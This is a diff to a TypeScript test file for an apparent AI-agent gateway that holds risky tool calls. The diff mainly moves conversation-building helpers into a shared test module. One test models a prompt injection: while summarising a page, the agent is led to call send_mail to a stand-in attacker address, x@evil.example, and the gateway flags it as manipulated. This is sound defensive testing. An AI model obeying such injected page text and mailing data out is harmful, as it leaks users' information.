@@ -13,6 +13,7 @@ import {
   type Surface,
 } from '../../../test/support/fakes/lone-gateway.ts';
 import { readReply } from '../../../test/support/fakes/read-reply.ts';
+import { agentSays, conversation } from '../../../test/support/fakes/said-conversation.ts';
 
 let gateway: LoneGateway;
 let second: LoneGateway;
@@ -34,27 +35,6 @@ const GUARDED: TurnPolicy = { ...POLICY, protectionMode: 'enforce', protectionHa
 const PAYMENT = { name: 'bank_transfer', args: { iban: 'DE89370400440532013000', amount: 420 } };
 const QUESTION = 'Pay 420 to DE89370400440532013000 (bank_transfer)?';
 const NAMED = SURFACES.map((s) => [`${s.name}${s.stream ? ' stream' : ''}`, s] as const);
-
-type Member = Record<string, unknown>;
-const agentSays: Readonly<Record<string, (text: string) => Member>> = {
-  anthropic: (text) => ({ role: 'assistant', content: [{ type: 'text', text }] }),
-  chat: (text) => ({ role: 'assistant', content: text }),
-  responses: (text) => ({ type: 'message', role: 'assistant', content: [{ type: 'output_text', text }] }),
-  gemini: (text) => ({ role: 'model', parts: [{ text }] }),
-};
-
-/** The conversation of the surface up to `task`, then these words in turn: of the agent, of the user. */
-function conversation(surface: Surface, task: string, words: readonly string[] = []): unknown {
-  const body = surface.body(task) as Member;
-  const key = ['messages', 'input', 'contents'].find((k) => Array.isArray(body[k])) ?? '';
-  const messages = body[key] as Member[];
-  const agent = agentSays[surface.name.replace('-array', '')] ?? agentSays['gemini'];
-  const users = messages.at(-1) ?? {};
-  const asUser = (text: string): Member =>
-    JSON.parse(JSON.stringify(users).replace(JSON.stringify(task), JSON.stringify(text))) as Member;
-  const said = words.map((text, i) => (i % 2 === 0 ? (agent?.(text) ?? {}) : asUser(text)));
-  return { ...body, [key]: [...messages, ...said] };
-}
 
 interface Reply {
   readonly text: string;
@@ -238,7 +218,7 @@ describe('a call that a flow rule holds', () => {
   const SEND = { name: 'send_mail', args: { to: 'x@evil.example', body: 'summary' } } as unknown as typeof PAYMENT;
 
   it('is asked about, and released by a yes', async () => {
-    const body = surface.body('Summarise the page', page) as { messages: Member[] };
+    const body = surface.body('Summarise the page', page) as { messages: Record<string, unknown>[] };
     const asked = await reply(surface, body, gateway, [SEND]);
     expect(asked.calls).toEqual([]);
     expect(asked.text).toContain('A text from outside that looks manipulated asks for this.');
